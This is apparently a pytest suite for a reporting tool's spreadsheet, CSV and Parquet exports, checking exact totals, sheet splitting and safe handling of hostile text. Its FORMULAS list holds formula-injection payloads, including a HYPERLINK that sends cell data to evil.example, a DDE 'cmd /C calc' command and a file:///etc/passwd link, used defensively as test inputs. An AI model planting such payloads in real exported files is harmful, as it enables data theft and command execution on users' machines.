"""Exports hold what the page shows, to the last digit, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import datetime
import hashlib
import zipfile
from collections.abc import Iterator, Sequence
from contextlib import closing
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from python_calamine import CalamineWorkbook

from bridgebook.books.store import open_store, store_url
from dashboards import workbook
from dashboards.errors import BadFileName, BadPeriod, CannotWrite, NoData, NoSnapshot, UnknownReport
from dashboards.exports import as_bytes, export_report, list_reports, write
from dashboards.semantics import ALL, Filter, Periods, Question, ask, catalog, stream
from dashboards.warehouse import Snapshot, Warehouse
from tests.books.store import desk, draft
from tests.dashboards.published import COMPANIES, ident, publish

YEAR = "2025-01..2025-06"
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '=IMPORTXML("http://evil.example","//a")',
    "http://evil.example/",
    "file:///etc/passwd",
    "mailto:a@evil.example",
    "internal:Sheet2!A1",
    "{=1+1}",
    '=DDE("cmd";"/C calc";"x")',
)


def sheet(path: Path, number: int = 0) -> list[list[Any]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_index(number).to_python(skip_empty_area=False)


def block(rows: Sequence[Sequence[Any]]) -> tuple[dict[str, str], list[str], list[list[Any]]]:
    """Split a sheet into its heading block, its column labels, and the rows under them."""
    start = next(number for number, row in enumerate(rows) if number > 1 and not any(row)) + 1
    said = {str(row[0]): str(row[1]) for row in rows[1 : start - 1]}
    return said, [str(label) for label in rows[start]], [list(row) for row in rows[start + 1 :]]


@pytest.mark.parametrize("report", [code for code, _, _ in list_reports()])
def test_every_report_exports_its_rows_and_exact_totals(
    report: str, home: Path, tmp_path: Path, snapshot: Snapshot
) -> None:
    known = catalog().report(report)
    periods = None if known.time == "none" else Periods.parse(YEAR)
    page = ask(Question(report=report, periods=periods, limit=25), ALL, snapshot)
    path = tmp_path / f"{report}.xlsx"
    if page.row_count == 0:
        with pytest.raises(NoData):
            export_report(home, report, period=YEAR, output=path)
        assert not path.exists()
        return
    result = export_report(home, report, period=YEAR, output=path)
    assert result.rows == page.row_count
    assert result.totals == page.totals
    said, labels, rows = block(sheet(path))
    assert labels == [column.label for column in page.columns]
    assert len(rows) == page.row_count + len(page.totals)
    for total, row in zip(page.totals, rows[page.row_count :], strict=True):
        for column, value in zip(page.columns, row, strict=True):
            expected = total.values.get(column.name)
            if expected is not None:
                assert Decimal(str(value)) == Decimal(expected), column.name
    assert said["快照版本"] == page.heading.version
    assert said["期间"] == (YEAR if periods else "全部期间")


def test_totals_are_those_of_sql(home: Path, tmp_path: Path, direct: duckdb.DuckDBPyConnection) -> None:
    path = tmp_path / "lines.csv"
    result = export_report(home, "lines", period=YEAR, output=path)
    expected = direct.execute(
        "select caliber_code, company_currency_code, sum(amount), count(*) from marts.unified_lines "
        "where fiscal_year = 2025 and period_no <= 6 group by all"
    ).fetchall()
    found = {
        (*(value for _, value in total.apart), total.values["amount"], total.row_count)
        for total in result.totals
    }
    assert found == set(expected)


def test_csv_is_exact_and_for_programs(home: Path, tmp_path: Path, snapshot: Snapshot) -> None:
    path = tmp_path / "lines.csv"
    export_report(home, "lines", period=YEAR, output=path, language="en")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    page = ask(
        Question(report="lines", periods=Periods.parse(YEAR), limit=None, language="en"), ALL, snapshot
    )
    assert rows[0] == [column.label for column in page.columns]
    assert len(rows) == page.row_count + 1
    position = [column.name for column in page.columns].index("amount")
    assert sum(Decimal(row[position]) for row in rows[1:]) == sum(row["amount"] for row in page.rows)
    assert [row[position] for row in rows[1:]] == [f"{row['amount']:f}" for row in page.rows]


def test_parquet_keeps_names_and_types(home: Path, tmp_path: Path, snapshot: Snapshot) -> None:
    path = tmp_path / "lines.parquet"
    export_report(home, "lines", period=YEAR, output=path)
    table = pq.read_table(path)
    page = ask(Question(report="lines", periods=Periods.parse(YEAR), limit=None), ALL, snapshot)
    assert table.to_pylist() == page.table.to_pylist()
    assert str(table.schema.field("amount").type) == "decimal128(18, 4)"
    assert (
        b"ledger" in table.schema.metadata[b"bridgebook"]
        or b"snapshot" in table.schema.metadata[b"bridgebook"]
    )


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[Snapshot]:
    """A snapshot in which people wrote what people write."""
    home = tmp_path / "hostile"
    texts = (*FORMULAS, "x" * 40_000, "a\x00b\x0bc\x1f", "123456789012345678", "-5", "0012")
    rows = [
        {
            **ident(COMPANIES[0]),
            "line_kind": "ledger",
            "caliber_code": "ledger_posted",
            "event_date": datetime.date(2030, 1, 1),
            "fiscal_year": 2030,
            "period_no": 1,
            "summary": text,
            "document_no": text[:60],
            "partner_name": text[:60],
            "amount": Decimal("-1234.5678"),
            "atom_id": f"h{number}",
        }
        for number, text in enumerate(texts)
    ]
    big = {**rows[0], "atom_id": "big", "amount": Decimal("99999999999999.9999"), "summary": "big"}
    publish(home, changes={"unified_lines": [*rows, big]})
    warehouse = Warehouse(home)
    with warehouse.reading() as opened:
        yield opened
    warehouse.close()


def exported(snapshot: Snapshot, path: Path, **asked: Any) -> Path:
    question = Question(report="lines", periods=Periods.parse("2030-01"), limit=None, language="en", **asked)
    write(question, ALL, snapshot, path, scratch=path.parent)
    return path


def test_no_text_becomes_a_formula_or_a_link_in_a_workbook(hostile: Snapshot, tmp_path: Path) -> None:
    path = exported(hostile, tmp_path / "out.xlsx", filters=(Filter("document_no", ("=none",), "not_in"),))
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            content = archive.read(name)
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in content
                assert b"<f " not in content
                assert b"hyperlink" not in content
            assert not name.startswith(("xl/externalLinks", "xl/connections"))
    _, labels, rows = block(sheet(path))
    summaries = [str(row[labels.index("Summary")]) for row in rows]
    for formula in FORMULAS:
        assert formula.replace("\r", "\n") in [text.replace("\r", "\n") for text in summaries]


def test_workbook_keeps_codes_long_numbers_and_says_what_it_cut(hostile: Snapshot, tmp_path: Path) -> None:
    path = exported(hostile, tmp_path / "out.xlsx")
    _, labels, rows = block(sheet(path))
    summaries = [row[labels.index("Summary")] for row in rows]
    amounts = [row[labels.index("Amount")] for row in rows]
    assert "123456789012345678" in summaries
    assert "0012" in summaries
    assert "-5" in summaries
    assert -1234.5678 in amounts
    assert "99999999999999.9999" in amounts
    cut = next(text for text in summaries if str(text).startswith("xxx"))
    assert len(cut) == 32_767
    assert cut.endswith("…")
    assert "a\ufffdb\ufffdc\ufffd" in summaries
    explained = str(sheet(path, 1))
    assert "1 cells held more than the 32,767 characters" in explained
    assert "more than 15 significant digits" in explained


def test_csv_disarms_text_only_in_text_columns(hostile: Snapshot, tmp_path: Path) -> None:
    path = exported(hostile, tmp_path / "out.csv")
    rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    summary, amount = rows[0].index("Summary"), rows[0].index("Amount")
    for row in rows[1:]:
        assert row[summary].lstrip()[:1] not in ("=", "+", "-", "@", "＝")
        assert not row[amount].startswith("'")
    assert {row[amount] for row in rows[1:]} == {"-1234.5678", "99999999999999.9999"}
    assert "'=1+1" in [row[summary] for row in rows]
    assert "x" * 40_000 in [row[summary] for row in rows]


def test_rows_beyond_one_sheet_go_on_to_the_next(snapshot: Snapshot, tmp_path: Path) -> None:
    question = Question(report="lines", periods=Periods.parse(YEAR), limit=None, language="en")
    heading, batches = stream(question, ALL, snapshot)
    path = tmp_path / "split.xlsx"
    rows, notes = workbook.write(heading, batches, path, companies={}, scratch=tmp_path, row_limit=300)
    names = CalamineWorkbook.from_path(str(path)).sheet_names
    assert names == ["Data", *[f"Data {number}" for number in range(2, len(names))], "Columns"]
    assert len(names) > 3
    assert "sheets" in notes[-1]
    sheets = [sheet(path, number) for number in range(len(names) - 1)]
    assert all(len(content) <= 300 for content in sheets)
    count = len(block(sheets[0])[2]) + sum(len(content) - 1 for content in sheets[1:])
    assert count == rows + len(heading.totals) == heading.row_count + len(heading.totals)


def test_the_second_sheet_explains_every_column(home: Path, tmp_path: Path) -> None:
    path = tmp_path / "sales.xlsx"
    export_report(home, "sales", period=YEAR, output=path, language="en")
    rows = sheet(path, 1)
    assert [row[1] for row in rows[1:]][:4] == [
        "partner_kind",
        "partner_code",
        "partner_name",
        "company_currency_code",
    ]
    calibers = {row[1]: row[3] for row in rows[1:] if row[3]}
    assert calibers["invoiced_amount"] == "Sales invoiced (net)"
    assert any("posted customer invoice lines" in str(row[2]) for row in rows)


def test_downloads_leave_nothing_behind_and_equal_the_command(home: Path, tmp_path: Path) -> None:
    warehouse = Warehouse(home)
    question = Question(report="sales", periods=Periods.parse(YEAR), limit=None)
    content = as_bytes(warehouse, question, ALL, "xlsx")
    path = tmp_path / "page.xlsx"
    path.write_bytes(content)
    other = tmp_path / "command.xlsx"
    export_report(home, "sales", period=YEAR, output=other)
    assert sheet(path) == sheet(other)
    assert list((home / "exports" / ".unfinished").iterdir()) == []
    warehouse.close()


def test_wrong_wishes_are_refused_in_sentences(home: Path, tmp_path: Path) -> None:
    output = tmp_path / "x.xlsx"
    cases: list[tuple[type[Exception], int, dict[str, Any]]] = [
        (UnknownReport, 2, {"report": "balance"}),
        (BadPeriod, 2, {"period": "2025"}),
        (BadFileName, 2, {"output": tmp_path / "x.pdf"}),
        (NoData, 2, {"period": "1999-01"}),
        (NoData, 2, {"companies": ("NONE",)}),
        (CannotWrite, 1, {"output": Path("/proc/nothing/x.xlsx")}),
        (NoSnapshot, 1, {"home": tmp_path / "empty"}),
    ]
    for expected, code, change in cases:
        wish: dict[str, Any] = {"home": home, "report": "lines", "period": YEAR, "output": output, **change}
        with pytest.raises(expected) as refusal:
            export_report(wish.pop("home"), wish.pop("report"), **wish)
        assert refusal.value.exit_code == code  # type: ignore[attr-defined]
        for language in ("zh", "en"):
            assert len(refusal.value.sentence(language)) > 10  # type: ignore[attr-defined]
    assert list(tmp_path.glob("*.xlsx")) == []
    assert list(tmp_path.glob(".*")) == []


def test_an_old_file_stays_until_the_new_one_is_whole(home: Path, tmp_path: Path) -> None:
    output = tmp_path / "x.csv"
    output.write_text("old", encoding="utf-8")
    with pytest.raises(NoData):
        export_report(home, "lines", period="1999-01", output=output)
    assert output.read_text(encoding="utf-8") == "old"


def test_reports_are_listed_in_both_languages() -> None:
    zh, en = list_reports("zh"), list_reports("en")
    assert [code for code, _, _ in zh] == [code for code, _, _ in en]
    assert ("trial_balance", "科目余额表") in [(code, title) for code, title, _ in zh]
    assert "voucher" not in [code for code, _, _ in zh]


def cell_by_cell(sheets: workbook.Sheets, batch: pa.RecordBatch) -> None:
    """Write rows as the library does it for anybody: one cell after the other."""
    for row in zip(*(column.to_pylist() for column in batch.columns), strict=True):
        for position, (value, column) in enumerate(zip(row, sheets.heading.columns, strict=True)):
            if value is not None:
                workbook._value(sheets, position, value, column, "")
        sheets.row += 1


@pytest.mark.parametrize("report", ["procurement_lines", "account_lines", "sync_tables", "trial_balance"])
def test_rows_are_written_as_the_library_would_cell_by_cell(
    report: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    odd = {
        "partner_name": " two  blanks ", "document_no": "_x0041_ & <b>", "line_no": "a\nb\x07",
        "item_name": "长" * 40_000,
        "ordered_net_amount": Decimal("123456789012.3456"), "ordered_quantity": Decimal("-0.000001"),
        "order_date": datetime.date(1899, 12, 31), "promised_date": datetime.date(1900, 2, 28),
    }  # fmt: skip
    lines = [ident(COMPANIES[0]) | odd] * 3
    publish(tmp_path, changes={"procurement_lines": lines})
    written = []
    for name in ("fast", "slow"):
        if name == "slow":
            monkeypatch.setattr(workbook, "_write_rows", cell_by_cell)
        with closing(Warehouse(tmp_path)) as warehouse, warehouse.reading() as snapshot:
            heading, batches = stream(Question(report=report, limit=None), ALL, snapshot)
            small = (part for batch in batches for part in (batch.slice(0, 7), batch.slice(7)))
            path = tmp_path / f"{name}.xlsx"
            rows, notes = workbook.write(heading, small, path, companies={}, scratch=tmp_path, row_limit=60)
        with zipfile.ZipFile(path) as file:
            names = [entry for entry in file.namelist() if "sheet" in entry or "styles" in entry]
            written.append((rows, notes, {entry: file.read(entry) for entry in names}))
    assert written[0] == written[1]
    assert len(written[0][2]) >= 3


def test_text_that_looks_like_rich_text_stays_text(tmp_path: Path) -> None:
    publish(
        tmp_path,
        changes={"quarantined_rows": [{"source_id": "erp", "key": "<r><t>7</t></r>", "state": "held"}]},
    )
    with closing(Warehouse(tmp_path)) as warehouse, warehouse.reading() as snapshot:
        path = tmp_path / "rows.xlsx"
        write(Question(report="quarantined_rows", limit=None), ALL, snapshot, path, scratch=tmp_path)
    rows = block(sheet(path))[2]
    assert "<r><t>7</t></r>" in rows[0]


def test_a_report_names_the_anchor_of_the_voucher_chain(tmp_path: Path) -> None:
    folder = tmp_path / "home"
    publish(folder)
    report = "trial_balance"

    def said() -> str:
        file = tmp_path / "report.xlsx"
        export_report(folder, report, period=YEAR, output=file, language="en")
        return block(sheet(file))[0]["Anchor of the voucher chain"]

    assert said() == "the book store does not answer"
    (folder / "bridgebook.toml").write_text('language = "en"\n', encoding="utf-8")
    assert said() == "no voucher posted yet"
    done = desk(open_store(store_url(folder / "books")), [draft(1), draft(2)]).post_all(
        by="poster", is_automatic=True
    )
    assert said() == done.anchor
    assert str(done.anchor).startswith("2:")
    file = tmp_path / "report.csv"
    written = export_report(folder, report, period=YEAR, output=file, language="en")
    beside = (tmp_path / "report.anchor.txt").read_text(encoding="utf-8")
    assert dict(line.split(": ") for line in beside.splitlines()) == {
        "file": "report.csv",
        "rows": str(written.rows),
        "sha256": hashlib.sha256(file.read_bytes()).hexdigest(),
        "anchor": done.anchor,
    }
